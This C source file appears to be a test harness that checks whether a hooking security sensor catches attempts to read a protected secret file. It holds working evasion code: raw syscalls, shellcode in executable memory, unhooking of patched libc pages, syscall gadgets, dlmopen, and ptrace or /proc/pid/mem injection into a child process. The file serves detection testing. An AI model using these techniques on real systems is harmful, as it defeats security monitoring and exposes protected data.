/* SPDX-License-Identifier: Apache-2.0 */
/* machine TECHNIQUE: machine code of one's own, and the patches of the sensor undone. Each then opens the secret. */
#include "canary.h"

#include <dlfcn.h>
#include <link.h>
#include <signal.h>
#include <stdint.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <sys/wait.h>

/* open(path) by a `syscall` instruction; returns the descriptor. */
static const unsigned char code[] = {0x48, 0x89, 0xff, 0xb8, 0x02, 0, 0, 0, 0x31, 0xf6, 0x31, 0xd2, 0x0f, 0x05, 0xc3};

static long by_instruction(long number, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long result;

	__asm__ volatile("syscall"
	                 : "=a"(result)
	                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return result;
}

static void own_instruction(void)
{
	show((int)by_instruction(SYS_openat, AT_FDCWD, (long)SECRET, O_RDONLY, 0));
}

static void interrupt_80(void)
{
	static const char path[] = SECRET;
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	int result;

	memcpy(low, path, sizeof(path));
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(5), "b"(low), "c"(0), "d"(0) : "memory");
	show(result);
}

static void run_code(void *at)
{
	int (*function)(const char *);

	memcpy(&function, &at, sizeof(function));
	show(function(SECRET));
}

static void memory_rwx(void)
{
	void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (at == MAP_FAILED)
		return;
	memcpy(at, code, sizeof(code));
	run_code(at);
}

static void memory_turned(void)
{
	void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	memcpy(at, code, sizeof(code));
	if (mprotect(at, 4096, PROT_READ | PROT_EXEC) == 0)
		run_code(at);
}

static void memory_pkey(void)
{
	void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	memcpy(at, code, sizeof(code));
	if (syscall(SYS_pkey_mprotect, at, 4096, PROT_READ | PROT_EXEC, -1) == 0)
		run_code(at);
}

static void memory_of_memfd(void)
{
	int fd = memfd_create("x", 0);
	void *at;

	(void)!write(fd, code, sizeof(code));
	at = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
	if (at != MAP_FAILED)
		run_code(at);
}

static void memory_of_file(void)
{
	int fd = open("/tmp/work/code", O_CREAT | O_RDWR, 0600);
	void *at;

	(void)!write(fd, code, sizeof(code));
	at = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	if (at != MAP_FAILED)
		run_code(at);
}

static void executable_stack(void)
{
	unsigned char here[8192];
	unsigned char *page = here + 4096 - ((uintptr_t)here & 4095);

	memcpy(page, code, sizeof(code));
	if (mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0)
		run_code(page);
}

static uintptr_t page_of(const void *function)
{
	return (uintptr_t)function & ~(uintptr_t)4095;
}

/* What the file has at the place of libc's `function`: the code without the jumps. */
static void restore(uintptr_t page)
{
	Dl_info where;
	int fd;

	dladdr((void *)(page + 2048), &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!pread(fd, (void *)page, 4096, (off_t)(page - (uintptr_t)where.dli_fbase));
}

static void text_written(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	if (mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
		restore(page);
		restore(page + 4096);
	}
	show_file(SECRET);
}

static void text_given_back(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	(void)!madvise((void *)page, 8192, MADV_DONTNEED);
	show_file(SECRET);
}

static void map_again(int flags)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	Dl_info where;
	int fd;

	dladdr((void *)page, &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!mmap((void *)page, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE | flags, fd,
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	show_file(SECRET);
}

static void text_mapped_over(void)
{
	map_again(MAP_FIXED);
}

static void text_moved_over(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	void *fresh;
	Dl_info where;

	dladdr((void *)page, &where);
	fresh = mmap(NULL, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE, open(where.dli_fname, O_RDONLY),
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!mremap(fresh, 8192, 8192, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)page);
	show_file(SECRET);
}

static void text_by_proc_mem(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	char fresh[8192];
	Dl_info where;

	dladdr((void *)page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, sizeof(fresh), (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!pwrite(open("/proc/self/mem", O_RDWR), fresh, sizeof(fresh), (off_t)page);
	show_file(SECRET);
}

static void second_libc(void)
{
	void *handle = dlmopen(LM_ID_NEWLM, "libc.so.6", RTLD_NOW);
	int (*function)(const char *, int, ...);
	void *symbol = handle ? dlsym(handle, "open") : NULL;

	if (!symbol)
		return;
	memcpy(&function, &symbol, sizeof(function));
	show(function(SECRET, O_RDONLY));
}

static int call_at(uintptr_t gadget)
{
	long result;

	__asm__ volatile("call *%[gadget]"
	                 : "=a"(result)
	                 : "a"(SYS_open), "D"(SECRET), "S"(O_RDONLY), "d"(0), [gadget] "r"(gadget)
	                 : "rcx", "r11", "memory");
	return (int)result;
}

/* `syscall; ret` in [from, to). */
static uintptr_t find_gadget(uintptr_t from, uintptr_t to)
{
	for (uintptr_t at = from; at + 3 < to; at++)
		if (memcmp((const void *)at, "\x0f\x05\xc3", 3) == 0)
			return at;
	return 0;
}

static int on_library(struct dl_phdr_info *info, size_t size, void *data)
{
	(void)size;
	if (strstr(info->dlpi_name, "libc.so") == NULL)
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *part = &info->dlpi_phdr[i];
		uintptr_t from = info->dlpi_addr + part->p_vaddr;

		if (part->p_type == PT_LOAD && (part->p_flags & PF_X) != 0)
			*(uintptr_t *)data = find_gadget(from, from + part->p_filesz);
	}
	return 1;
}

static void gadget_of_libc(void)
{
	uintptr_t gadget = 0;

	dl_iterate_phdr(on_library, &gadget);
	if (gadget)
		show(call_at(gadget));
}

static void gadget_of_vdso(void)
{
	uintptr_t at = getauxval(AT_SYSINFO_EHDR);

	for (uintptr_t end = at + 4096; at + 2 < end; at++) {
		if (memcmp((const void *)at, "\x0f\x05", 2) == 0) {
			uintptr_t gadget = find_gadget(at, end);

			if (gadget)
				show(call_at(gadget));
			return;
		}
	}
}

static pid_t start_sibling(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		usleep(200000);
		show_file(SECRET);
		_exit(0);
	}
	return pid;
}

/* The sibling's code is put back, so that it reads the secret when it wakes up. */
static void fresh_text(char *fresh, uintptr_t *page)
{
	Dl_info where;

	*page = page_of(dlsym(RTLD_DEFAULT, "open"));
	dladdr((void *)*page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, 8192, (off_t)(*page - (uintptr_t)where.dli_fbase));
}

static void sibling_by_vm_writev(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();
	struct iovec from = {fresh, sizeof(fresh)}, to;

	fresh_text(fresh, &page);
	to = (struct iovec){(void *)page, sizeof(fresh)};
	(void)!process_vm_writev(pid, &from, 1, &to, 1, 0);
	waitpid(pid, NULL, 0);
}

static void sibling_by_mem(void)
{
	char fresh[8192], name[64];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	(void)snprintf(name, sizeof(name), "/proc/%d/mem", pid);
	(void)!pwrite(open(name, O_RDWR), fresh, sizeof(fresh), (off_t)page);
	waitpid(pid, NULL, 0);
}

static void sibling_by_ptrace(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		waitpid(pid, NULL, 0);
		for (size_t i = 0; i < sizeof(fresh); i += 8) {
			long word;

			memcpy(&word, fresh + i, sizeof(word));
			ptrace(PTRACE_POKETEXT, pid, page + i, word);
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	waitpid(pid, NULL, 0);
}

static void io_uring(void)
{
	char parameters[256] = {0};
	int fd = (int)syscall(425, 4, parameters);

	/* A ring that can be had counts as the secret read: nothing sees what goes through it. */
	if (fd >= 0)
		show((int)by_instruction(SYS_openat, AT_FDCWD, (long)SECRET, O_RDONLY, 0));
}

static void dropped(const char *library)
{
	char data[65536];
	int from = open(library, O_RDONLY), to = open("/tmp/work/dropped.so", O_CREAT | O_WRONLY, 0755);
	ssize_t n;

	while ((n = read(from, data, sizeof(data))) > 0)
		(void)!write(to, data, (size_t)n);
	close(to);
	(void)!dlopen("/tmp/work/dropped.so", RTLD_NOW);
}

static void library_dropped(void)
{
	dropped("/opt/programs/dropped.so");
}

static void packaged_library(void)
{
	(void)!dlopen("/opt/programs/dropped.so", RTLD_NOW);
}

static const struct technique techniques[] = {
        {"instruction", own_instruction},
        {"int80", interrupt_80},
        {"rwx", memory_rwx},
        {"w-then-x", memory_turned},
        {"pkey", memory_pkey},
        {"memfd-map", memory_of_memfd},
        {"file-map", memory_of_file},
        {"stack", executable_stack},
        {"text-write", text_written},
        {"text-madvise", text_given_back},
        {"text-mmap", text_mapped_over},
        {"text-mremap", text_moved_over},
        {"text-mem", text_by_proc_mem},
        {"dlmopen", second_libc},
        {"gadget-libc", gadget_of_libc},
        {"gadget-vdso", gadget_of_vdso},
        {"sibling-writev", sibling_by_vm_writev},
        {"sibling-mem", sibling_by_mem},
        {"sibling-ptrace", sibling_by_ptrace},
        {"io-uring", io_uring},
        {"dropped", library_dropped},
        {"packaged", packaged_library},
};

int main(int argc, char **argv)
{
	return run_technique(techniques, sizeof(techniques) / sizeof(techniques[0]), argc, argv);
}
